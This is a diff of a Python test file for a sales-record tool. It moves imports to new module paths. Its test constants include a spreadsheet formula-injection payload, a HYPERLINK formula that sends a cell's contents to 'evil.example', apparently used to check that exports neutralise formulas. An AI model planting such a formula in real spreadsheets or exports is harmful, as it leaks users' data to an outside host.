@@ -17,10 +17,10 @@ from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from salesbook.customers import add_customer, search_customers
-from salesbook.deliveries import record_delivery
-from salesbook.payments import record_payment
-from salesbook.text import formula_risky, formula_safe, unquote_formula
+from salesbook.records.customers import add_customer, search_customers
+from salesbook.records.deliveries import record_delivery
+from salesbook.records.payments import record_payment
+from salesbook.rules.text import formula_risky, formula_safe, unquote_formula
 
 NAME = "=1+1"
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
@@ -178,7 +178,7 @@ def test_exported_xlsx_imports_back_as_typed(risky, run_cli, tmp_path):
     assert run_cli("new", fresh).code == 0
     r = run_cli("import", "customers", path, "--sheet", "客户", book=fresh)
     assert r.code == 0, r
-    from salesbook.book import open_book
+    from salesbook.store.book import open_book
 
     b = open_book(fresh)
     try:
